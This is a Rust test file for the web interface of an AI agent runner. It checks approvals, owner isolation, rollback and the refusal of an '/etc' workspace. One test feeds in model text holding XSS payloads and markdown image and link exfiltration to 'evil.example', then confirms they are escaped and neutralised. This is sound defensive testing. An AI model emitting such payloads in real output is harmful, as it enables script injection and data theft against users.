//! The web pages as a user meets them: a run as one timeline, a waiting approval said on the
//! run, in the tab title, the runs list and the navigation; decisions that say who and how;
//! files changed and rolled back from the page; a refused start keeps what was typed.

use axum::http::StatusCode;

use crate::common::{EDIT, server};

/// The value of the first `name="NAME" value="…"` in `html`.
fn form_value(html: &str, name: &str) -> String {
    let marker = format!("name=\"{name}\" value=\"");
    let at = html.find(&marker).map(|i| i + marker.len()).unwrap_or_else(|| panic!("no {name} in {html}"));
    html[at..].split('"').next().unwrap_or_default().to_string()
}

#[tokio::test]
async fn a_run_is_one_timeline_and_a_waiting_approval_is_said_everywhere() {
    let s = server(EDIT).await;
    let alice = s.browser().await;
    let mallory = s.browser().await;
    let run = s.start(&alice, "change the note").await;
    let approval = s.pending_approval(&alice, &run).await;

    let (_, html) = s.page(&alice, &format!("/runs/{run}")).await;
    assert!(html.contains("<title>Waiting for you · change the note · Steward</title>"), "{html}");
    assert!(html.contains("data-status=\"running\">waiting for you</span>"), "{html}");
    // The approval sits in the step of its call, after the model's text.
    let text_at = html.find("Editing the note.").expect("the model's text");
    let step_at = html.find("class=\"step tone-wait\"").expect("the call's step");
    let approval_at = html.find(&format!("data-approval-id=\"{approval}\"")).expect("the approval");
    assert!(text_at < step_at && step_at < approval_at, "text, then the step, then its approval");
    assert!(html.contains("1 file, +1 −1"), "the diff's summary: {html}");

    let (status, fragment) = s.page(&alice, &format!("/runs/{run}/timeline")).await;
    assert_eq!(status, StatusCode::OK);
    assert!(
        fragment.contains(&format!("data-approval-id=\"{approval}\"")) && !fragment.contains("<html"),
        "{fragment}"
    );
    let (_, list) = s.page(&alice, "/runs/list").await;
    assert!(list.contains("waiting for you") && list.contains(">change the note</a>"), "{list}");
    let (_, badge) = s.page(&alice, "/runs/waiting").await;
    assert!(
        badge.contains(">1 waiting for you</a>") && badge.contains(&format!("/runs/{run}#approval-{approval}")),
        "{badge}"
    );

    // Another owner sees none of it.
    let (status, _) = s.page(&mallory, &format!("/runs/{run}/timeline")).await;
    assert_eq!(status, StatusCode::FORBIDDEN);
    let (_, badge) = s.page(&mallory, "/runs/waiting").await;
    assert!(badge.is_empty(), "{badge}");
    let (_, list) = s.page(&mallory, "/runs/list").await;
    assert!(!list.contains(&run), "{list}");

    // Approved from the page's form: the decision says who, how and when.
    let form = format!(
        "csrf={}&run={run}&decision=approve&scope=once&call_hash={}",
        alice.csrf,
        form_value(&html, "call_hash")
    );
    let (status, _, location) = s.post_form(&alice, &format!("/approvals/{approval}"), &form).await;
    assert_eq!((status, location.as_deref()), (StatusCode::SEE_OTHER, Some(format!("/runs/{run}").as_str())));
    s.wait_status(&alice, &run, "completed").await;
    let (_, html) = s.page(&alice, &format!("/runs/{run}")).await;
    assert!(html.contains("approved by web:") && html.contains("(this call only)</span> at <time"), "{html}");
    assert!(!html.contains("Waiting for you"), "{html}");
    assert!(html.contains("data-status=\"completed\">completed</span>"), "{html}");
    assert_eq!(html.matches("Finished.").count(), 1, "the answer is shown once: {html}");
    assert!(html.contains("<strong>Files changed:</strong> <code>note.txt</code>"), "{html}");
    assert_eq!(std::fs::read_to_string(s.ws.join("note.txt")).unwrap(), "new\n");

    // Rolled back from the page, once confirmed: the file is as it was; another owner cannot.
    let theirs = format!("csrf={}&confirm=yes", mallory.csrf);
    let (status, _, _) = s.post_form(&mallory, &format!("/runs/{run}/rollback"), &theirs).await;
    assert_eq!(status, StatusCode::FORBIDDEN);
    let (status, html, _) =
        s.post_form(&alice, &format!("/runs/{run}/rollback"), &format!("csrf={}", alice.csrf)).await;
    assert_eq!(status, StatusCode::BAD_REQUEST, "a rollback is confirmed: {html}");
    assert_eq!(std::fs::read_to_string(s.ws.join("note.txt")).unwrap(), "new\n");
    let mine = format!("csrf={}&confirm=yes", alice.csrf);
    let (status, _, location) = s.post_form(&alice, &format!("/runs/{run}/rollback"), &mine).await;
    assert_eq!((status, location.as_deref()), (StatusCode::SEE_OTHER, Some(format!("/runs/{run}").as_str())));
    assert_eq!(std::fs::read_to_string(s.ws.join("note.txt")).unwrap(), "old\n");
    let (_, html) = s.page(&alice, &format!("/runs/{run}")).await;
    assert!(html.contains("rolled back</strong>") && !html.contains("Roll back these changes"), "{html}");
}

#[tokio::test]
async fn a_refused_start_keeps_the_task_and_says_why_beside_the_field() {
    let s = server(EDIT).await;
    let alice = s.browser().await;
    let form = format!("csrf={}&task=keep+this+task&workspace=%2Fetc", alice.csrf);
    let (status, html, _) = s.post_form(&alice, "/runs", &form).await;
    assert_eq!(status, StatusCode::BAD_REQUEST, "{html}");
    assert!(html.contains(">keep this task</textarea>"), "the task is typed back: {html}");
    assert!(
        html.contains("id=\"workspace-error\" class=\"field-error\"") && html.contains("aria-invalid=\"true\""),
        "{html}"
    );
    assert!(html.contains("is not one this server serves"), "{html}");
}

#[tokio::test]
async fn model_markdown_is_rendered_without_markup_images_or_hidden_links() {
    let scenario = r#"
[[round]]
text = "**Done.** <img src=x onerror=alert(1)> ![p](https://evil.example/p.png?d=s) [docs](https://evil.example/?d=s) <script>alert(2)</script>"
"#;
    let s = server(scenario).await;
    let alice = s.browser().await;
    let run = s.start(&alice, "say done").await;
    s.wait_status(&alice, &run, "completed").await;
    let (_, html) = s.page(&alice, &format!("/runs/{run}")).await;
    assert!(html.contains("<strong>Done.</strong>"), "{html}");
    assert!(!html.contains("<img") && !html.contains("<script>alert"), "{html}");
    assert!(html.contains("&lt;img src=x"), "{html}");
    assert!(html.contains("[image: p] (") && html.contains(">https://evil.example/?d=s</a>"), "{html}");
    let (status, icon) = s.page(&alice, "/favicon.ico").await;
    assert_eq!(status, StatusCode::OK);
    assert!(icon.starts_with("<svg"), "{icon}");
}

#[tokio::test]
async fn an_approval_for_a_call_the_page_did_not_show_is_refused_and_keeps_waiting() {
    let s = server(EDIT).await;
    let alice = s.browser().await;
    let run = s.start(&alice, "change the note").await;
    let approval = s.pending_approval(&alice, &run).await;
    let body = serde_json::json!({"decision": "approve", "call_hash": "0".repeat(64)});
    let (status, answer) = s.call(&alice, "POST", &format!("/api/approvals/{approval}"), Some(body)).await;
    assert_eq!((status, answer["error"]["class"].as_str()), (StatusCode::CONFLICT, Some("conflict")), "{answer}");
    assert_eq!(s.pending_approval(&alice, &run).await, approval, "still waiting");
    assert_eq!(std::fs::read_to_string(s.ws.join("note.txt")).unwrap(), "old\n");
}
